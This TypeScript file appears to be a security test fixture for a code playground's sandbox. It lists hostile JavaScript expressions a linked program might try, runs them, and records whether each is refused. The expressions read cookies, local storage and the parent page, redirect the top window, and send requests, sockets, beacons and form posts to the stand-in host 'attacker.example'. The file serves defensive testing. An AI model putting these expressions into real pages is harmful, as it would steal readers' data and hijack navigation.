/** What a hostile program of a link to the playground may try, as expressions of its JavaScript. */

/** One thing to try. */
export interface Attempt {
  readonly what: string;
  /** An expression of an async function; it must fail, or give nothing, for the attempt to be refused. */
  readonly expression: string;
  /** Only pages have what it needs; a worker has not even the name. */
  readonly needsPage?: true;
  /** The reader's switch allows it. */
  readonly isNetwork?: true;
}

/** A host that nothing of the site asks. */
export const OTHER_HOST = 'attacker.example';

/** What the page around keeps to itself. */
export const SECRET = 'the reader’s own';

function event(make: string, good: string, bad: string): string {
  return `new Promise((resolve, reject) => { const it = ${make}; it.${good} = () => resolve('reached'); it.${bad} = () => reject(new Error('refused')); })`;
}

const BLOB = (text: string): string => `URL.createObjectURL(new Blob([${JSON.stringify(text)}]))`;

/** All that is tried. */
export const ATTEMPTS: readonly Attempt[] = [
  // Storage
  { what: 'local storage', expression: 'localStorage.getItem("secret")' },
  { what: 'session storage', expression: 'sessionStorage.getItem("secret")' },
  { what: 'cookies', expression: 'document.cookie', needsPage: true },
  { what: 'the cookie store', expression: 'cookieStore.get("secret")' },
  {
    what: 'databases',
    expression:
      'new Promise((resolve, reject) => { const r = indexedDB.open("x"); r.onsuccess = () => resolve("open"); r.onerror = () => reject(r.error); })',
  },
  { what: 'caches', expression: 'caches.keys().then((keys) => "keys " + keys)' },
  { what: 'files of the origin', expression: 'navigator.storage.getDirectory()' },
  { what: 'service workers', expression: 'navigator.serviceWorker.register("/sw.js")' },
  {
    what: 'broadcasts of the site',
    expression:
      'new Promise((resolve, reject) => { const c = new BroadcastChannel("site"); c.onmessage = resolve; c.postMessage(1); setTimeout(() => reject(new Error("silence")), 300); })',
  },
  // The page around
  { what: 'the document of the page', expression: 'parent.document.title' },
  { what: 'the window at the top', expression: 'top.location.href' },
  { what: 'its own frame', expression: 'frameElement.src', needsPage: true },
  { what: 'storage of the page', expression: 'parent.localStorage.getItem("secret")' },
  { what: 'opener', expression: 'opener.location.href', needsPage: true },
  { what: 'navigation at the top', expression: `{ top.location = "https://${OTHER_HOST}/"; }` },
  {
    what: 'navigation of the parent',
    expression: `{ parent.location.href = "https://${OTHER_HOST}/"; }`,
  },
  { what: 'history of the page', expression: '{ history.pushState({}, "", "/moved"); }' },
  { what: 'windows', expression: 'window.open("/") || Promise.reject(new Error("none"))' },
  { what: 'dialogs', expression: 'confirm("Password?") || Promise.reject(new Error("none"))' },
  {
    what: 'forms',
    expression: `{ const f = document.createElement("form"); f.action = "https://${OTHER_HOST}/"; document.body.append(f); f.submit(); }`,
    needsPage: true,
  },
  {
    what: 'links that leave',
    expression: `{ const a = document.createElement("a"); a.href = "https://${OTHER_HOST}/"; a.target = "_top"; document.body.append(a); a.click(); }`,
    needsPage: true,
  },
  // Code from elsewhere
  { what: 'code from text', expression: 'new Function("return 1")()' },
  {
    what: 'code from a timer’s text',
    expression:
      '{ setTimeout("globalThis.ran = 1", 0); await new Promise((r) => setTimeout(r, 100)); if (globalThis.ran) return "ran"; }',
  },
  { what: 'modules of other hosts', expression: `import("https://${OTHER_HOST}/x.js")` },
  { what: 'modules of the site', expression: 'import("/assets/js/main.js")' },
  { what: 'scripts of other hosts', expression: `importScripts("https://${OTHER_HOST}/x.js")` },
  {
    what: 'a frame of the site',
    expression:
      '{ const f = document.createElement("iframe"); f.src = "/"; document.body.append(f); await new Promise((r) => setTimeout(r, 500)); if (f.contentDocument?.title) return "read"; }',
    needsPage: true,
  },
  // A worker is under the document's policy
  {
    what: 'a network by way of another worker',
    expression: `new Promise((resolve, reject) => { const w = new Worker(${BLOB('fetch("/index.html", {mode: "no-cors"}).then(() => postMessage("reached"), () => postMessage(""))')}); w.onmessage = ({ data }) => data ? resolve(data) : reject(new Error("refused")); w.onerror = reject; })`,
    isNetwork: true,
  },
  {
    what: 'a shared worker',
    expression: `new Promise((resolve, reject) => { const w = new SharedWorker("/assets/js/main.js"); w.onerror = reject; })`,
  },
  {
    what: 'a worker of the site',
    expression: `new Promise((resolve, reject) => { const w = new Worker("/assets/js/main.js"); w.onerror = () => reject(new Error("refused")); w.onmessage = resolve; })`,
  },
  // Ways out
  { what: 'the site, by fetch', expression: 'fetch("/index.html").then((r) => r.text())' },
  {
    what: 'the service of this machine',
    expression: 'fetch("http://127.0.0.1:4000/", {method: "POST", mode: "no-cors"})',
  },
  {
    what: 'other hosts, by fetch',
    expression: `fetch("https://${OTHER_HOST}/", {mode: "no-cors"})`,
    isNetwork: true,
  },
  {
    what: 'sockets',
    expression: event(`new WebSocket("wss://${OTHER_HOST}/")`, 'onopen', 'onerror'),
  },
  {
    what: 'event streams',
    expression: event(`new EventSource("https://${OTHER_HOST}/")`, 'onopen', 'onerror'),
    isNetwork: true,
  },
  {
    what: 'pictures',
    expression: event(
      `Object.assign(new Image(), {src: "https://${OTHER_HOST}/x.png"})`,
      'onload',
      'onerror',
    ),
    needsPage: true,
    isNetwork: true,
  },
  { what: 'fonts', expression: `new FontFace("x", "url(https://${OTHER_HOST}/x.woff2)").load()` },
  {
    what: 'beacons',
    expression: `{ if (!navigator.sendBeacon) throw new Error("none"); navigator.sendBeacon("https://${OTHER_HOST}/"); }`,
    isNetwork: true,
  },
  {
    what: 'styles of other hosts',
    expression: `{ const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://${OTHER_HOST}/x.css"; document.head.append(l); await new Promise((resolve, reject) => { l.onload = resolve; l.onerror = reject; }); return "loaded"; }`,
    needsPage: true,
  },
  {
    what: 'prefetched pages',
    expression: `{ const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://${OTHER_HOST}/x"; document.head.append(l); await new Promise((r) => setTimeout(r, 300)); }`,
    needsPage: true,
    isNetwork: true,
  },
];

/** Messages in the program's name that are not what a frame may say. */
export const SPOOFED: readonly unknown[] = [
  null,
  'run',
  { type: 'unknown' },
  { type: 'console', level: 'fatal', text: 'x' },
  { type: 'console', level: 'log', text: {} },
  { type: 'error', message: 'x', line: 'three' },
  { type: 'height', height: 1e9 },
];

/** The JavaScript of a program that tries all of them and writes what came of it. */
export function programOf(attempts: readonly Attempt[]): string {
  const tries = attempts.map(({ what, expression }) => {
    const body = expression.startsWith('{') ? expression : `{ return ${expression}; }`;
    return `[${JSON.stringify(what)}, async () => ${body}]`;
  });
  return `
    const late = () => new Promise((_, reject) => setTimeout(() => reject(new Error("late")), 2000));
    for (const [what, act] of [${tries.join(',\n')}]) {
      let got;
      try { got = await Promise.race([act(), late()]); } catch (error) { got = undefined; }
      console.log(what + ": " + (got === undefined || got === null || got === "" ? "refused" : "reached"));
    }
    for (const message of ${JSON.stringify(SPOOFED)}) globalThis.parent ? parent.postMessage(message, "*") : postMessage(message);
    console.log("done");
  `;
}
